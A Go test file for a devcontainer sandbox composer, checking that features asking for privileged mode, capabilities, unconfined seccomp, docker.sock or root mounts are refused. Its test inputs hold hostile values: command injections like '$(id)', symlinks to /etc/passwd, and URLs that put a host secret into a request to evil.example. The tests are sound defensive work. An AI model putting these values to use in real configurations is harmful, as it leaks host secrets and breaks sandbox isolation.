package devcontainer_test

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/ALRubinger/aileron/e2e/must"
	"github.com/ALRubinger/aileron/internal/hint"
	"github.com/ALRubinger/aileron/sandbox/devcontainer"
)

// feature is a feature with this metadata, as it was fetched.
func feature(ref, metadata string, value any, more ...devcontainer.File) devcontainer.FetchedFeature {
	return devcontainer.FetchedFeature{Ref: ref, Value: value, Files: append([]devcontainer.File{
		{Path: "devcontainer-feature.json", Mode: 0o644, Data: []byte(metadata)},
		{Path: "install.sh", Mode: 0o755, Data: []byte("#!/bin/sh\nset\n")}}, more...)}
}

// featured returns the plan of a configuration for which these features were fetched.
func featured(t *testing.T, text string, fetched ...devcontainer.FetchedFeature) *devcontainer.Plan {
	t.Helper()
	dir, root := project(t, map[string]string{at: text})
	return must.Get(devcontainer.Compose(t.Context(), devcontainer.Input{Root: root, Dir: dir, File: at,
		Getenv: environment("SECRET=of-the-host"),
		Fetched: func(*devcontainer.FeatureRequest) (*devcontainer.FeatureSet, error) {
			return &devcontainer.FeatureSet{Features: fetched}, nil
		}}))(t)
}

const withX = `{"image": "x", "containerUser": "app", "features": {"ghcr.example/a/x:1": {}},
	"postCreateCommand": "own", "mounts": ["source=v,target=/b,type=volume"]}`

func TestAFeatureAsksForWhatTheFileMayAskFor(t *testing.T) {
	p := featured(t, withX, feature("ghcr.example/a/y:2", `{"id": "y", "onCreateCommand": "first"}`, nil),
		feature("ghcr.example/a/x:1", `{"id": "x", "version": "1.2.3", "init": true,
		"options": {"version": {"type": "string", "default": "latest"}, "my-flag": {"default": false}, "n": {"default": 7}},
		"containerEnv": {"PATH": "/opt/x:${PATH}"}, "mounts": ["source=k-${devcontainerId},target=/k,type=volume",
		{"type": "volume", "source": "other", "target": "/b"}], "postCreateCommand": {"a": ["true"]}, "entrypoint": "/e.sh",
		"customizations": {"vscode": {}}, "deprecated": true, "installsAfter": ["z"], "odd": 1}`,
			map[string]any{"version": "9", "1st": true}))
	if len(p.Refusals) > 0 || len(p.Features) != 2 || !p.Init || p.Unfetched {
		t.Fatalf("the plan is %+v", p)
	}
	x := p.Features[1]
	if want := "[{MY_FLAG false} {N 7} {VERSION 9} {_ST true}]"; fmt.Sprint(x.Options) != want || x.Version != "1.2.3" ||
		fmt.Sprint(x.Env) != "[{PATH /opt/x:${PATH}}]" || !strings.HasPrefix(x.Digest, "sha256:") {
		t.Errorf("the feature is %+v, want the options %s", x, want)
	}
	var titles []string
	for _, c := range p.Commands {
		titles = append(titles, c.Title())
	}
	if want := []string{"onCreateCommand of the feature ghcr.example/a/y:2",
		"postCreateCommand of the feature ghcr.example/a/x:1", "postCreateCommand"}; !slices.Equal(titles, want) {
		t.Errorf("the commands are %q, want %q", titles, want)
	}
	if len(p.Mounts) != 2 || !strings.HasPrefix(p.Mounts[0].Source, "k-") || len(p.Mounts[0].Source) != 54 ||
		p.Mounts[1].Source != "v" {
		t.Errorf("the mounts are %+v", p.Mounts)
	}
	var warned []string
	for _, n := range p.Warnings {
		if n.Line == 0 {
			t.Errorf("a warning without a line: %v", n)
		}
		warned = append(warned, strings.TrimPrefix(n.Property, "features.ghcr.example/a/x:1."))
	}
	if want := []string{"customizations", "deprecated", "entrypoint", "odd", "mounts[0]"}; !slices.Equal(warned, want) {
		t.Errorf("the warnings are about %q, want %q", warned, want)
	}
}

// TestAFeatureThatWidensIsRefused has a row for each way in which a feature could get more than a layer.
func TestAFeatureThatWidensIsRefused(t *testing.T) {
	for metadata, want := range map[string]string{
		`"privileged": true`:                                          "privileged (line 1): it breaks the seal",
		`"capAdd": ["SYS_PTRACE"]`:                                    "a sandbox has no capabilities",
		`"securityOpt": ["seccomp=unconfined"]`:                       "the seccomp profile of aileron",
		`"mounts": ["type=bind,source=/run/docker.sock,target=/d"]`:   "/run/docker.sock is not in the project",
		`"mounts": [{"type": "bind", "source": "/", "target": "/d"}]`: "/ is not in the project",
		`"containerEnv": {"A": "x\nRUN --mount=type=bind id"}`:        "no string of characters that can be seen",
		`"containerEnv": {"A B": "x"}`:                                `"A B" is no name of a variable`,
		`"containerEnv": {"A": "${localEnv:SECRET}"}`:                 "a $ that names no variable of the image",
		`"containerEnv": {"A": "${PATH:-x}"}`:                         "a $ that names no variable of the image",
		`"containerEnv": {"A": 1}`:                                    "the variable A is no string",
		`"options": {"a": {"default": ["x"]}}`:                        `the option "a" is no string`,
		`"options": {"a": {"default": "x\u0000"}}`:                    `the option "a" has a character`,
		`"onCreateCommand": 1`:                                        "it is not",
		`"id": "x", "id": "x"`:                                        `"id" is there twice`,
	} {
		p := featured(t, withX, feature("ghcr.example/a/x:1", `{`+metadata+`}`, nil))
		if len(p.Refusals) != 1 || !strings.Contains(p.Refusals[0].String(), want) || p.Refusals[0].Hint == "" ||
			!strings.HasPrefix(p.Refusals[0].Property, "features.ghcr.example/a/x:1") {
			t.Errorf("%s: refused %v, want %q", metadata, p.Refusals, want)
		}
	}
	bare := devcontainer.FetchedFeature{Ref: "ghcr.example/a/x:1"}
	if p := featured(t, withX, bare); len(p.Refusals) != 1 || !strings.Contains(p.Refusals[0].Text, "or no install.sh") {
		t.Errorf("without files it is refused for %v", p.Refusals)
	}
}

// What a feature names of this host is asked about, as it is where the file names it.
func TestAVariableOfThisHostInAFeatureIsAskedAbout(t *testing.T) {
	p := featured(t, withX, feature("ghcr.example/a/x:1", `{"postStartCommand": "curl x/${localEnv:SECRET}"}`, nil))
	if fmt.Sprint(p.Local) != "[{SECRET of-the-host}]" {
		t.Errorf("the variables are %v", p.Local)
	}
}

// No text of a feature becomes an instruction, or a command, before install.sh runs.
func TestTheRecipeOfAFeatureHasNoTextOfItsOwn(t *testing.T) {
	value := `it's "$(id)" \ ` + "`id`\n; exit 3"
	p := featured(t, withX, feature("ghcr.example/a/x:1", `{"options": {"version": {}},
		"containerEnv": {"A": "a\"b\\", "B": "$PATH${PATH}"}}`, map[string]any{"version": value}))
	file, files, err := p.FeatureRecipe("web:web")
	must.Do(t, err)
	want := `ARG BASE
FROM ${BASE}
USER root
ENV A="a\"b\\"
ENV B="$PATH${PATH}"
COPY f0.sh /tmp/aileron-features/
COPY f0 /tmp/aileron-features/f0/
RUN ["/bin/sh", "/tmp/aileron-features/f0.sh"]
RUN ["/bin/sh", "-c", "rm -rf /tmp/aileron-features"]
USER web:web
`
	if string(file) != want {
		t.Errorf("the Dockerfile is\n%s\nwant\n%s", file, want)
	}
	dir := t.TempDir()
	for _, f := range files {
		if f.Mode.IsDir() {
			must.Do(t, os.Mkdir(filepath.Join(dir, f.Path), 0o755))
			continue
		}
		text := strings.ReplaceAll(string(f.Data), "/tmp/aileron-features", dir)
		if filepath.Base(f.Path) == "install.sh" {
			text = "#!/bin/sh\nprintf %s \"$_CONTAINER_USER|$_REMOTE_USER|$VERSION\"\n"
		}
		must.Do(t, os.WriteFile(filepath.Join(dir, f.Path), []byte(text), 0o644))
	}
	out := must.Get(exec.Command("/bin/sh", filepath.Join(dir, "f0.sh")).Output())(t)
	if string(out) != "app|app|"+value {
		t.Errorf("install.sh has %q, want %q", out, "app|app|"+value)
	}
	for _, user := range []string{"a\nRUN id", "a b", "$HOME", "-x"} {
		if _, _, err := p.FeatureRecipe(user); err == nil || hint.Of(err) == "" {
			t.Errorf("the user %q: %v", user, err)
		}
	}
}

// The consent is to all that is installed: any other byte, option, or order has another digest.
func TestTheDigestOfAPlanCoversItsFeatures(t *testing.T) {
	x := func(value any, more ...devcontainer.File) devcontainer.FetchedFeature {
		return feature("ghcr.example/a/x:1", `{"options": {"version": {}}}`, value, more...)
	}
	y := feature("ghcr.example/a/y:1", `{}`, nil)
	other := x(nil)
	other.Manifest = "sha256:0"
	digests := map[string]string{}
	for name, fetched := range map[string][]devcontainer.FetchedFeature{
		"x": {x(nil)}, "an option": {x("2")}, "a file": {x(nil, devcontainer.File{Path: "a", Mode: 0o644})},
		"its content": {x(nil, devcontainer.File{Path: "a", Mode: 0o644, Data: []byte("b")})},
		"its mode":    {x(nil, devcontainer.File{Path: "a", Mode: 0o755})},
		"two":         {x(nil), y}, "another order": {y, x(nil)}, "a manifest": {other},
	} {
		sum := featured(t, withX, fetched...).Digest
		if same, ok := digests[sum]; ok {
			t.Errorf("%s and %s have one digest", name, same)
		}
		digests[sum] = name
	}
	if first, second := featured(t, withX, x(nil)).Digest, featured(t, withX, x(nil)).Digest; first != second {
		t.Error("the same features have two digests")
	}
}

func TestFeaturesOfTheProjectAreReadFromTheirDirectory(t *testing.T) {
	files := map[string]string{".devcontainer/x/install.sh": "id", ".devcontainer/x/devcontainer-feature.json": `{}`,
		".devcontainer/out": "-> /etc", ".devcontainer/link/passwd": "-> /etc/passwd", "y/install.sh": "id",
		".devcontainer/bare/install.sh":        "id",
		".devcontainer/devcontainer-lock.json": `{}`}
	for ref, want := range map[string]string{
		"./x": "", "./bare": "it has no devcontainer-feature.json", "./none": "no such file",
		"../y": "is not in .devcontainer", "./out": "path escapes",
		"./link": "leads out of the context", "a b": "no name of a feature", "https://x/$(id)": "no name of a feature",
		"ghcr.example/a/x:1": "",
	} {
		p := must.Get(composed(t, `{"image": "x", "features": {"`+ref+`": {}}}`, files))(t)
		switch {
		case want != "" && (len(p.Refusals) != 1 || !strings.Contains(p.Refusals[0].Text, want)):
			t.Errorf("%s: refused %v, want %q", ref, p.Refusals, want)
		case want == "" && (len(p.Refusals) > 0 || !p.Unfetched || p.Requested == nil || string(p.Requested.Lock) != `{}`):
			t.Errorf("%s: the plan is %+v", ref, p)
		}
	}
}

// A lock file that cannot be read is not one that is not there: without it, another content is fetched.
func TestALockFileThatCannotBeReadIsRefused(t *testing.T) {
	for text, want := range map[string]string{
		strings.Repeat(" ", 4<<20): "read .devcontainer/devcontainer-lock.json", "-> other": "",
		"-> /etc/passwd": "read .devcontainer/devcontainer-lock.json", "{": "read devcontainer-lock.json",
	} {
		p := must.Get(composed(t, `{"image": "x", "features": {"ghcr.example/a/x:1": {}}}`,
			map[string]string{".devcontainer/devcontainer-lock.json": text, ".devcontainer/other": "{}"}))(t)
		if want == "" && len(p.Refusals) == 0 {
			continue
		}
		if len(p.Refusals) != 1 || !strings.Contains(p.Refusals[0].Text, want) || want == "" {
			t.Errorf("%.20q: refused %v, want %q", text, p.Refusals, want)
		}
	}
}

// An order that the file gives names no feature that it has not: each would be fetched, and may have a variable of this
// host in its name.
func TestAnOrderFetchesNothing(t *testing.T) {
	p := must.Get(composed(t, `{"image": "x", "features": {"ghcr.example/a/x:1": {}},
		"overrideFeatureInstallOrder": ["https://evil.example/${localEnv:SECRET}.tgz", "ghcr.example/a/x"]}`, nil,
		"SECRET=s"))(t)
	if len(p.Refusals) > 0 || !slices.Equal(p.Requested.Order, []string{"ghcr.example/a/x"}) || len(p.Warnings) != 1 {
		t.Errorf("the order is %q: %v %v", p.Requested.Order, p.Refusals, p.Warnings)
	}
}
